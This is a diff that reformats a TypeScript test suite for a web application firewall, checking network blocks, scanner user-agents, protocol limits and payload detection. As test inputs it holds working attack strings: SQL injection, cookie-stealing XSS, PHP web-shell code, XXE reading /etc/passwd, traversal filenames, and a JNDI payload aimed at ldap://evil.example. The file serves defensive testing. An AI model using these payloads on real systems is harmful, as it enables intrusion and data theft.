@@ -8,14 +8,31 @@ import { compileNetwork, evaluateRequest, PROTOCOL_LIMITS } from "../../src/lib/
 import { normalizeValue, percentDecode } from "../../src/lib/waf/normalize.ts";
 import { BROWSER, evaluate, req, security } from "./waf-requests.ts";
 
-const query = (value: string, name = "q") => evaluate({ url: `https://edge.test/search?${name}=${encodeURIComponent(value)}` });
-const json = (body: unknown) => evaluate({ method: "POST", url: "https://edge.test/v1/items", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
-const form = (body: string) => evaluate({ method: "POST", url: "https://edge.test/contact", headers: { "content-type": "application/x-www-form-urlencoded" }, body });
+const query = (value: string, name = "q") =>
+  evaluate({ url: `https://edge.test/search?${name}=${encodeURIComponent(value)}` });
+const json = (body: unknown) =>
+  evaluate({
+    method: "POST",
+    url: "https://edge.test/v1/items",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify(body),
+  });
+const form = (body: string) =>
+  evaluate({
+    method: "POST",
+    url: "https://edge.test/contact",
+    headers: { "content-type": "application/x-www-form-urlencoded" },
+    body,
+  });
 
 describe("network rules", () => {
   it("blocks listed addresses and CIDRs, IPv4 and IPv6, and lets others through", () => {
     const s = security({ blockedIps: ["198.51.100.7", "203.0.113.0/24", "2001:db8:bad::/48"] });
-    expect(evaluate({ ip: "198.51.100.7" }, s)).toMatchObject({ action: "block", ruleId: "network-blocked-ip", class: "network" });
+    expect(evaluate({ ip: "198.51.100.7" }, s)).toMatchObject({
+      action: "block",
+      ruleId: "network-blocked-ip",
+      class: "network",
+    });
     expect(evaluate({ ip: "203.0.113.200" }, s).action).toBe("block");
     expect(evaluate({ ip: "2001:db8:bad:1::5" }, s).action).toBe("block");
     expect(evaluate({ ip: "198.51.100.8" }, s).action).toBe("allow");
@@ -40,20 +57,49 @@ describe("network rules", () => {
   });
 
   it("blocks countries, ASNs and configured user-agent substrings (case-insensitive)", () => {
-    expect(evaluate({ country: "KP" }, security({ blockedCountries: ["KP"] }))).toMatchObject({ action: "block", ruleId: "network-blocked-country" });
+    expect(evaluate({ country: "KP" }, security({ blockedCountries: ["KP"] }))).toMatchObject({
+      action: "block",
+      ruleId: "network-blocked-country",
+    });
     expect(evaluate({ country: null }, security({ blockedCountries: ["KP"] })).action).toBe("allow");
-    expect(evaluate({ asn: 64496 }, security({ blockedAsns: [64496] }))).toMatchObject({ action: "block", ruleId: "network-blocked-asn" });
+    expect(evaluate({ asn: 64496 }, security({ blockedAsns: [64496] }))).toMatchObject({
+      action: "block",
+      ruleId: "network-blocked-asn",
+    });
     expect(evaluate({ asn: 64497 }, security({ blockedAsns: [64496] })).action).toBe("allow");
     const ua = security({ blockedUserAgents: ["BadBot"] });
-    expect(evaluate({ headers: { "user-agent": "Mozilla/5.0 (compatible; badbot/2.1)" } }, ua)).toMatchObject({ action: "block", ruleId: "user-agent-blocked" });
+    expect(evaluate({ headers: { "user-agent": "Mozilla/5.0 (compatible; badbot/2.1)" } }, ua)).toMatchObject({
+      action: "block",
+      ruleId: "user-agent-blocked",
+    });
     expect(evaluate({}, ua).action).toBe("allow");
   });
 
   it("blocks built-in scanners and attack tools by user agent, not browsers, crawlers or HTTP libraries", () => {
-    for (const ua of ["sqlmap/1.8.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Fuzz Faster U Fool v2.1.0", "gobuster/3.6", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]) {
-      expect(evaluate({ headers: { "user-agent": ua } }), ua).toMatchObject({ action: "block", ruleId: "scanner-user-agent", class: "scanner" });
+    for (const ua of [
+      "sqlmap/1.8.2#stable (https://sqlmap.org)",
+      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)",
+      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+      "Fuzz Faster U Fool v2.1.0",
+      "gobuster/3.6",
+      "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
+      "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
+      "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+    ]) {
+      expect(evaluate({ headers: { "user-agent": ua } }), ua).toMatchObject({
+        action: "block",
+        ruleId: "scanner-user-agent",
+        class: "scanner",
+      });
     }
-    for (const ua of ["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/2.0", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Vegas Travel App/1.2", BROWSER]) {
+    for (const ua of [
+      "curl/8.5.0",
+      "python-requests/2.31.0",
+      "Go-http-client/2.0",
+      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+      "Vegas Travel App/1.2",
+      BROWSER,
+    ]) {
       expect(evaluate({ headers: { "user-agent": ua } }).action, ua).toBe("allow");
     }
   });
@@ -62,7 +108,10 @@ describe("network rules", () => {
     const s = security({ blockedIps: ["203.0.113.0/24"] });
     expect(compileNetwork(s)).toBe(compileNetwork(s));
     expect(compileNetwork(security({ blockedIps: ["203.0.113.0/24"] }))).not.toBe(compileNetwork(s));
-    expect(compileNetwork(security({ blockedIps: ["not-an-ip", "10.0.0.0/33"] })).invalid).toEqual(["not-an-ip", "10.0.0.0/33"]);
+    expect(compileNetwork(security({ blockedIps: ["not-an-ip", "10.0.0.0/33"] })).invalid).toEqual([
+      "not-an-ip",
+      "10.0.0.0/33",
+    ]);
   });
 });
 
@@ -89,12 +138,20 @@ describe("custom rules", () => {
 
   it("a log-only match logs the request and an attack after it is still blocked", () => {
     const onlyLog = security({ rules: [{ id: "watch-export", action: "log", match: { pathPrefix: "/export" } }] });
-    expect(evaluate({ url: "https://edge.test/export?page=1" }, onlyLog)).toMatchObject({ action: "log", ruleId: "watch-export", class: "custom" });
-    expect(evaluate({ url: "https://edge.test/export?id=1%20UNION%20SELECT%20password%2C1%20FROM%20users" }, onlyLog)).toMatchObject({ action: "block", class: "sqli" });
+    expect(evaluate({ url: "https://edge.test/export?page=1" }, onlyLog)).toMatchObject({
+      action: "log",
+      ruleId: "watch-export",
+      class: "custom",
+    });
+    expect(
+      evaluate({ url: "https://edge.test/export?id=1%20UNION%20SELECT%20password%2C1%20FROM%20users" }, onlyLog),
+    ).toMatchObject({ action: "block", class: "sqli" });
   });
 
   it("match method, country, header and the decoded path; GET rules cover HEAD", () => {
-    expect(evaluate({ method: "DELETE", url: "https://edge.test/v1/x", country: "FR" }, s).ruleId).toBe("block-delete-fr");
+    expect(evaluate({ method: "DELETE", url: "https://edge.test/v1/x", country: "FR" }, s).ruleId).toBe(
+      "block-delete-fr",
+    );
     expect(evaluate({ method: "DELETE", url: "https://edge.test/v1/x", country: "DE" }, s).action).toBe("allow");
     expect(evaluate({ method: "GET", url: "https://edge.test/v1/x", country: "FR" }, s).action).toBe("allow");
     expect(evaluate({ headers: { "x-client": "Legacy/1.4 (android)" } }, s).ruleId).toBe("block-legacy-client");
@@ -108,9 +165,14 @@ describe("custom rules", () => {
 describe("protocol limits", () => {
   it("refuses methods outside the API's (TRACE, TRACK, CONNECT, DEBUG, WebDAV)", () => {
     for (const method of ["TRACE", "TRACK", "CONNECT", "DEBUG", "PROPFIND"]) {
-      expect(evaluate({ method }), method).toMatchObject({ action: "block", ruleId: "protocol-method-not-allowed", class: "protocol" });
+      expect(evaluate({ method }), method).toMatchObject({
+        action: "block",
+        ruleId: "protocol-method-not-allowed",
+        class: "protocol",
+      });
     }
-    for (const method of ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"]) expect(evaluate({ method }).action, method).toBe("allow");
+    for (const method of ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"])
+      expect(evaluate({ method }).action, method).toBe("allow");
   });
 
   it("treats a % not followed by two hex digits as text (100%, 50% off), and valid escapes as usual", () => {
@@ -124,14 +186,22 @@ describe("protocol limits", () => {
   });
 
   it("refuses over-long URLs, too many query arguments, too many or too large headers", () => {
-    expect(evaluate({ url: `https://edge.test/s?q=${"a".repeat(PROTOCOL_LIMITS.maxUrlLength)}` }).ruleId).toBe("protocol-url-too-long");
-    expect(evaluate({ url: `https://edge.test/s?q=${"a".repeat(PROTOCOL_LIMITS.maxUrlLength - 100)}` }).action).toBe("allow");
+    expect(evaluate({ url: `https://edge.test/s?q=${"a".repeat(PROTOCOL_LIMITS.maxUrlLength)}` }).ruleId).toBe(
+      "protocol-url-too-long",
+    );
+    expect(evaluate({ url: `https://edge.test/s?q=${"a".repeat(PROTOCOL_LIMITS.maxUrlLength - 100)}` }).action).toBe(
+      "allow",
+    );
     const args = (n: number) => Array.from({ length: n }, (_, i) => `a${i}=1`).join("&");
-    expect(evaluate({ url: `https://edge.test/s?${args(PROTOCOL_LIMITS.maxQueryArgs + 1)}` }).ruleId).toBe("protocol-too-many-args");
+    expect(evaluate({ url: `https://edge.test/s?${args(PROTOCOL_LIMITS.maxQueryArgs + 1)}` }).ruleId).toBe(
+      "protocol-too-many-args",
+    );
     expect(evaluate({ url: `https://edge.test/s?${args(PROTOCOL_LIMITS.maxQueryArgs)}` }).action).toBe("allow");
     const many = Object.fromEntries(Array.from({ length: PROTOCOL_LIMITS.maxHeaders }, (_, i) => [`x-h${i}`, "1"]));
     expect(evaluate({ headers: many }).ruleId).toBe("protocol-too-many-headers");
-    expect(evaluate({ headers: { "x-big": "a".repeat(PROTOCOL_LIMITS.maxHeaderBytes) } }).ruleId).toBe("protocol-headers-too-large");
+    expect(evaluate({ headers: { "x-big": "a".repeat(PROTOCOL_LIMITS.maxHeaderBytes) } }).ruleId).toBe(
+      "protocol-headers-too-large",
+    );
   });
 });
 
@@ -168,7 +238,8 @@ describe("sentences (the prose fast path)", () => {
   // Long values are read without the sentences inside them (`withoutProse`): what is left out
   // must never hide an attack between paragraphs, nor join two harmless pieces into one.
   const paragraph = sentences.join(" ").repeat(4);
-  const post = (middle: string) => json({ body: `${middle}\n\n${paragraph}`, quoted: `${paragraph}\n\n${middle}\n\n${paragraph} ${paragraph}` });
+  const post = (middle: string) =>
+    json({ body: `${middle}\n\n${paragraph}`, quoted: `${paragraph}\n\n${middle}\n\n${paragraph} ${paragraph}` });
   it.each([
     ["markup", "<img src=x onerror=alert(document.cookie)>"],
     ["SQL after a quote, in words", "Nice post x' union select username, password from users where 'a' like 'a"],
@@ -181,7 +252,10 @@ describe("sentences (the prose fast path)", () => {
   it.each([
     ["a code line", "const rows = await db.select().from(orders).where(eq(orders.customer, name));"],
     ["a markdown list and a heading", "## Features\n\n- Don't buy\n- Works with *any* TV"],
-    ["a quote, a sentence, then a heading", `# 4K TV 55"\n\nThe cat's out of the bag: we're launching in Spain and Portugal in June!\n\n## Features\n\n- Don't buy\n- Works with *any* TV`],
+    [
+      "a quote, a sentence, then a heading",
+      `# 4K TV 55"\n\nThe cat's out of the bag: we're launching in Spain and Portugal in June!\n\n## Features\n\n- Don't buy\n- Works with *any* TV`,
+    ],
     ["an e-mail and a URL", "Write to ana@example.com or see https://example.com/docs?page=2."],
   ])("passes %s before and between long paragraphs", (_kind, middle) => {
     expect(post(middle).action).toBe("allow");
@@ -231,7 +305,10 @@ describe("field values that are sentences but for a little punctuation", () => {
 
 describe("web addresses in fields (only what a URL itself can be is looked for)", () => {
   const field = (url: string, key = "url") => json({ [key]: url }).action;
-  it.each(["https://shop.example.com/cart?step=review&utm_source=newsletter&v=1", "https://cdn.example.com/img/a-b_c.png#top"])("passes %s", (url) => {
+  it.each([
+    "https://shop.example.com/cart?step=review&utm_source=newsletter&v=1",
+    "https://cdn.example.com/img/a-b_c.png#top",
+  ])("passes %s", (url) => {
     expect(field(url)).toBe("allow");
     expect(field(url, "file")).toBe("allow");
   });
@@ -278,8 +355,26 @@ describe("payload inspection", () => {
     ["php", () => query("php://filter/convert.base64-encode/resource=index.php", "page")],
     ["php", () => form("code=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E")],
     ["java", () => evaluate({ headers: { cookie: "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC" } })],
-    ["java", () => evaluate({ method: "POST", url: "https://edge.test/import", headers: { "content-type": "application/json" }, body: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a"}' })],
-    ["xxe", () => evaluate({ method: "POST", url: "https://edge.test/import", headers: { "content-type": "application/xml" }, body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' })],
+    [
+      "java",
+      () =>
+        evaluate({
+          method: "POST",
+          url: "https://edge.test/import",
+          headers: { "content-type": "application/json" },
+          body: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a"}',
+        }),
+    ],
+    [
+      "xxe",
+      () =>
+        evaluate({
+          method: "POST",
+          url: "https://edge.test/import",
+          headers: { "content-type": "application/xml" },
+          body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+        }),
+    ],
   ];
   it.each(attacks)("detects %s (%#)", (cls, run) => {
     const d = run();
@@ -291,11 +386,28 @@ describe("payload inspection", () => {
   it("inspects multipart text fields, base64 parts and declared base64 data URLs", () => {
     const b = "----x1";
     const multipart = (part: string) =>
-      evaluate({ method: "POST", url: "https://edge.test/upload", headers: { "content-type": `multipart/form-data; boundary=${b}` }, body: `--${b}\r\n${part}\r\n--${b}--\r\n` });
+      evaluate({
+        method: "POST",
+        url: "https://edge.test/upload",
+        headers: { "content-type": `multipart/form-data; boundary=${b}` },
+        body: `--${b}\r\n${part}\r\n--${b}--\r\n`,
+      });
     expect(multipart('Content-Disposition: form-data; name="bio"\r\n\r\n<script>alert(1)</script>').class).toBe("xss");
-    expect(multipart(`Content-Disposition: form-data; name="note"\r\nContent-Transfer-Encoding: base64\r\n\r\n${btoa("' UNION SELECT password, 1 FROM users--")}`).class).toBe("sqli");
-    expect(multipart('Content-Disposition: form-data; name="f"; filename="../../../etc/passwd"\r\nContent-Type: image/png\r\n\r\n\x89PNG').class).toBe("traversal");
-    expect(multipart('Content-Disposition: form-data; name="f"; filename="cat.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG <script>').action).toBe("allow");
+    expect(
+      multipart(
+        `Content-Disposition: form-data; name="note"\r\nContent-Transfer-Encoding: base64\r\n\r\n${btoa("' UNION SELECT password, 1 FROM users--")}`,
+      ).class,
+    ).toBe("sqli");
+    expect(
+      multipart(
+        'Content-Disposition: form-data; name="f"; filename="../../../etc/passwd"\r\nContent-Type: image/png\r\n\r\n\x89PNG',
+      ).class,
+    ).toBe("traversal");
+    expect(
+      multipart(
+        'Content-Disposition: form-data; name="f"; filename="cat.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG <script>',
+      ).action,
+    ).toBe("allow");
     expect(query(`data:text/html;base64,${btoa("<svg onload=alert(1)>")}`, "icon").class).toBe("xss");
     expect(query(`data:image/png;base64,${btoa("<svg onload=alert(1)>")}`, "icon").action).toBe("allow");
   });
@@ -307,34 +419,72 @@ describe("payload inspection", () => {
     expect(evaluate({ url: "https://edge.test/search?q=sessionid" }).action).toBe("allow");
     expect(evaluate({ url: "https://edge.test/search?sessionid=abc" }).action).toBe("block");
     // One value under many names keeps being judged per name.
-    for (let i = 0; i < 20; i++) expect(evaluate({ url: `https://edge.test/search?n${i}=shell.php` }).action).toBe("allow");
+    for (let i = 0; i < 20; i++)
+      expect(evaluate({ url: `https://edge.test/search?n${i}=shell.php` }).action).toBe("allow");
     expect(asUpload()).toBe("block");
   });
 
   it("lets ordinary tricky input through", () => {
-    for (const v of ["O'Brien", "D'Angelo and O'Neil", "rock and roll", "rock 'n' roll", "select committee report", "union station", "50% off shoes", "Ben & Jerry's; cat café", "5'10\" tall", "x < y && y > z", "it's 1 or 2 people", "jane.o'hara+news@example.com", "東京 ラーメン", "Where's the /etc/hosts file on a Mac?", "javascript: void(0)"]) {
+    for (const v of [
+      "O'Brien",
+      "D'Angelo and O'Neil",
+      "rock and roll",
+      "rock 'n' roll",
+      "select committee report",
+      "union station",
+      "50% off shoes",
+      "Ben & Jerry's; cat café",
+      "5'10\" tall",
+      "x < y && y > z",
+      "it's 1 or 2 people",
+      "jane.o'hara+news@example.com",
+      "東京 ラーメン",
+      "Where's the /etc/hosts file on a Mac?",
+      "javascript: void(0)",
+    ]) {
       expect(query(v).action, v).toBe("allow");
     }
     expect(query("https://example.com/x?a=1&b=2", "next").action).toBe("allow");
     expect(query("https://cdn.example.com/report.pdf", "file").action).toBe("allow");
-    expect(json({ title: "Release notes", body: "## Setup\n\n```bash\nnpm install\ncurl -fsSL https://get.example.com | sh\n```\n\nThen open http://localhost:3000 and select a union type." }).action).toBe("allow");
-    expect(form("name=Siobh%C3%A1n+O%27Neill&message=I%27d+like+to+drop+the+reservation%3B+please+update+it.").action).toBe("allow");
+    expect(
+      json({
+        title: "Release notes",
+        body: "## Setup\n\n```bash\nnpm install\ncurl -fsSL https://get.example.com | sh\n```\n\nThen open http://localhost:3000 and select a union type.",
+      }).action,
+    ).toBe("allow");
+    expect(
+      form("name=Siobh%C3%A1n+O%27Neill&message=I%27d+like+to+drop+the+reservation%3B+please+update+it.").action,
+    ).toBe("allow");
   });
 
   it("code snippets in JSON: a complete SQL statement is code, a fragment that continues one is injection (documented decision)", () => {
-    expect(json({ language: "sql", code: "SELECT * FROM users WHERE id = 42 ORDER BY created_at DESC LIMIT 20;" }).action).toBe("allow");
-    expect(json({ language: "sql", code: "SELECT name FROM staff UNION SELECT name FROM contractors;" }).action).toBe("allow");
+    expect(
+      json({ language: "sql", code: "SELECT * FROM users WHERE id = 42 ORDER BY created_at DESC LIMIT 20;" }).action,
+    ).toBe("allow");
+    expect(json({ language: "sql", code: "SELECT name FROM staff UNION SELECT name FROM contractors;" }).action).toBe(
+      "allow",
+    );
     expect(json({ language: "sql", code: "SELECT * FROM t WHERE id = 1 OR 1=1" }).action).toBe("allow");
-    expect(json({ language: "js", code: "const total = items.reduce((a, b) => a + b.price, 0); if (a < b && c > d) return;" }).action).toBe("allow");
+    expect(
+      json({
+        language: "js",
+        code: "const total = items.reduce((a, b) => a + b.price, 0); if (a < b && c > d) return;",
+      }).action,
+    ).toBe("allow");
     // Fragments that continue someone else's statement, and attack-only functions even in a statement:
     expect(json({ language: "sql", code: "42 UNION SELECT password, 1 FROM users" }).action).toBe("block");
     expect(json({ language: "sql", code: "x' OR 1=1 --" }).action).toBe("block");
     expect(json({ language: "sql", code: "SELECT SLEEP(10)" }).action).toBe("block");
-    expect(json({ language: "sql", code: "SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/s.php'" }).action).toBe("block");
+    expect(
+      json({ language: "sql", code: "SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/s.php'" }).action,
+    ).toBe("block");
   });
 
   it("mode log turns blocks into logged would-be blocks", () => {
-    const d = evaluateRequest(req({ url: "https://edge.test/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E" }), security({ mode: "log" }));
+    const d = evaluateRequest(
+      req({ url: "https://edge.test/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E" }),
+      security({ mode: "log" }),
+    );
     expect(d).toMatchObject({ action: "log", wouldBlock: true, class: "xss" });
   });
 });
